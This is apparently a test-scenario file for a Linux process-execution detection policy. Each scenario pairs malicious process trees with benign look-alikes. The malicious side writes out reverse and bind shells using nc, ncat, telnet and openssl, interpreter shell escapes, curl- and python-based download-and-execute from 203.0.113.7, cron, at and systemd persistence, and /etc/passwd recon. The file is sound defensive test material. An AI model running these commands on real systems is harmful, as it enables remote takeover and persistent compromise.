/** Execution procedures (policies/linux/execution_procedures.toml). */
import { pipe, run, runArgv, runDoing, sc, type Scenario, sleep, write } from "../scenario.ts";

const NCAT = "/usr/bin/ncat";
const SH = "/usr/bin/sh";
const BASH = "/usr/bin/bash";

export const EXECUTION: Scenario[] = [
  sc(
    "shell_from_network_tool",
    "user",
    // ncat -lvnp 4444 -e /bin/bash: a connection makes ncat fork the shell on the socket.
    [runDoing(NCAT, ["ncat", "-lvnp", "4444", "-e", "/bin/bash"], [
      sleep(5000),
      runArgv(BASH, ["/bin/bash"], { stdin: "socket", stdout: "socket" }),
    ])],
    // a port check and an ssh session's shell
    [run(NCAT, "-zv", "db.internal", "5432"), run(BASH, "-c", "echo done")],
  ),
  sc(
    "awk_shell",
    "user",
    [run("/usr/bin/awk", 'BEGIN {system("/bin/sh")}')],
    [
      run("/usr/bin/awk", "-F:", "{print $1}", "/etc/passwd"),
      run("/usr/bin/awk", "BEGIN {print strftime()}"),
    ],
  ),
  sc(
    "interpreter_shell_exec",
    "user",
    [run("/usr/bin/perl", "-e", 'exec "/bin/sh";')],
    [
      run("/usr/bin/perl", "-e", 'print join(",", @INC)'),
      run("/usr/bin/ruby", "-e", 'system("make", "test")'),
    ],
  ),
  sc(
    "python_shell_exec",
    "user",
    [run("/usr/bin/python3", "-c", 'import os; os.execl("/bin/sh", "sh", "-p")')],
    [
      run("/usr/bin/python3", "-c", "import subprocess; subprocess.run(['git', 'status'])"),
      run("/usr/bin/python3", "-c", "import os; print(os.environ['SHELL'])"),
    ],
  ),
  sc(
    "web_server_recon",
    "web",
    [
      runDoing(SH, ["sh", "-c", "id;uname -a;cat /etc/passwd"], [
        run("/usr/bin/id"),
        run("/usr/bin/uname", "-a"),
        run("/usr/bin/cat", "/etc/passwd"),
      ]),
    ],
    // the worker's usual children: mail, image conversion
    [
      run("/usr/sbin/sendmail", "-t", "-i"),
      run("/usr/bin/convert", "upload.png", "-resize", "200x200", "thumb.png"),
    ],
  ),
  sc(
    "at_job_schedule",
    "user",
    [pipe(["/usr/bin/echo", "echo", "/tmp/.u/run.sh"], [
      "/usr/bin/at",
      "at",
      "now",
      "+",
      "1",
      "minute",
    ])],
    [run("/usr/bin/atq"), run("/usr/bin/at", "-l")],
  ),
  sc(
    "at_spool_write",
    "root",
    [runDoing("/usr/bin/cp", ["cp", "/tmp/job", "/var/spool/cron/atjobs/a0001201b2c3d4"], [
      write("/var/spool/cron/atjobs/a0001201b2c3d4"),
    ])],
    [runDoing("/usr/bin/at", ["at", "-f", "backup.sh", "02:00"], [
      write("/var/spool/cron/atjobs/a00002019bd1a8"),
    ])],
  ),
  sc(
    "systemd_run_timer",
    "root",
    [run("/usr/bin/systemd-run", "--on-active=30", "--unit=kworker-update", "/var/tmp/.k/update")],
    [
      run("/usr/bin/systemd-run", "--scope", "-p", "MemoryMax=2G", "make", "-j4"),
      run("/usr/bin/systemd-run", "--on-calendar=daily", "/usr/local/bin/backup"),
    ],
  ),
  sc(
    "systemctl_link_temp_unit",
    "root",
    [run("/usr/bin/systemctl", "enable", "--now", "/tmp/dbus-update.service")],
    [
      run("/usr/bin/systemctl", "enable", "--now", "nginx.service"),
      run("/usr/bin/systemctl", "status", "/tmp"),
    ],
  ),
  sc(
    "crontab_from_temp_file",
    "user",
    [
      runDoing(BASH, ["bash", "-c", "echo '* * * * * /tmp/.x/b' > /tmp/c"], [write("/tmp/c")]),
      run("/usr/bin/crontab", "/tmp/c"),
    ],
    [run("/usr/bin/crontab", "-l"), run("/usr/bin/crontab", "/home/alice/dotfiles/crontab")],
  ),
  sc(
    "crontab_by_web_server",
    "web",
    [
      runDoing(SH, [
        "sh",
        "-c",
        "(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.7/s|sh') | crontab -",
      ], [
        pipe(["/usr/bin/crontab", "crontab", "-l"], ["/usr/bin/crontab", "crontab", "-"]),
      ]),
    ],
    [run("/usr/sbin/sendmail", "-t", "-i")],
    // an admin lists their own table from a login shell
  ),
  sc(
    "exec_from_dev_shm",
    "user",
    [runArgv("/dev/shm/.x/kdevtmpfsi", ["/dev/shm/.x/kdevtmpfsi"])],
    [run("/usr/bin/ls", "-la", "/dev/shm"), run("/usr/bin/df", "-h", "/dev/shm")],
  ),
  sc(
    "telnet_pipe_shell",
    "user",
    [pipe(
      ["/usr/bin/telnet", "telnet", "203.0.113.7", "4444"],
      [SH, "/bin/sh"],
      ["/usr/bin/telnet", "telnet", "203.0.113.7", "4445"],
    )],
    [pipe(["/usr/bin/telnet", "telnet", "mail.internal", "25"], [
      "/usr/bin/tee",
      "tee",
      "smtp.log",
    ])],
  ),
  sc(
    "mkfifo_reverse_shell",
    "user",
    [
      run("/usr/bin/rm", "/tmp/f"),
      run("/usr/bin/mkfifo", "/tmp/f"),
      pipe(["/usr/bin/cat", "cat", "/tmp/f"], [SH, "/bin/sh", "-i"], [
        "/usr/bin/nc",
        "nc",
        "203.0.113.7",
        "4444",
      ]),
    ],
    [
      run("/usr/bin/mkfifo", "/home/alice/build/progress"),
      run("/usr/bin/nc", "-zv", "db.internal", "5432"),
    ],
  ),
  sc(
    "openssl_reverse_shell",
    "user",
    [
      run("/usr/bin/mkfifo", "/tmp/s"),
      runArgv(SH, ["/bin/sh", "-i"], { stdin: "file", stdout: "pipe" }),
      runArgv(
        "/usr/bin/openssl",
        ["openssl", "s_client", "-quiet", "-connect", "203.0.113.7:443"],
        {
          stdin: "pipe",
          stdout: "file",
        },
      ),
    ],
    // a certificate check: echo | openssl s_client ... | openssl x509 -noout -dates
    [pipe(
      ["/usr/bin/echo", "echo"],
      [
        "/usr/bin/openssl",
        "openssl",
        "s_client",
        "-connect",
        "example.org:443",
        "-servername",
        "example.org",
      ],
      ["/usr/bin/openssl", "openssl", "x509", "-noout", "-dates"],
    )],
  ),
  sc(
    "script_run_from_dev_shm",
    "user",
    [run("/usr/bin/python3", "/dev/shm/.cache.py")],
    [
      run("/usr/bin/python3", "/home/alice/tools/report.py"),
      run(BASH, "/home/alice/bin/deploy.sh"),
    ],
  ),
  sc(
    "fetch_pipe_interpreter",
    "user",
    [pipe(["/usr/bin/curl", "curl", "-fsSL", "http://203.0.113.7/a.py"], [
      "/usr/bin/python3",
      "python3",
      "-",
    ])],
    [pipe(
      ["/usr/bin/curl", "curl", "-s", "https://api.github.com/repos/x/y"],
      ["/usr/bin/python3", "python3", "-m", "json.tool"],
    )],
  ),
  sc(
    "download_to_dev_shm",
    "user",
    [runDoing("/usr/bin/wget", ["wget", "-q", "-O", "/dev/shm/x", "http://203.0.113.7/x86_64"], [
      write("/dev/shm/x"),
    ])],
    [runDoing("/usr/bin/wget", [
      "wget",
      "-q",
      "-O",
      "/tmp/go1.22.tar.gz",
      "https://go.dev/dl/go1.22.linux-amd64.tar.gz",
    ], [
      write("/tmp/go1.22.tar.gz"),
    ])],
  ),
  sc(
    "python_download_exec",
    "user",
    [run(
      "/usr/bin/python3",
      "-c",
      "import urllib.request as u;exec(u.urlopen('http://203.0.113.7/s.py').read())",
    )],
    [run(
      "/usr/bin/python3",
      "-c",
      "import urllib.request as u;print(u.urlopen('https://pypi.org/simple/').status)",
    )],
  ),
  sc(
    "tftp_download",
    "cron",
    [runArgv("/bin/busybox", ["busybox", "tftp", "-g", "-r", "mips", "203.0.113.7"])],
    [run("/usr/bin/curl", "-fsS", "https://repo.internal/health")],
  ),
];
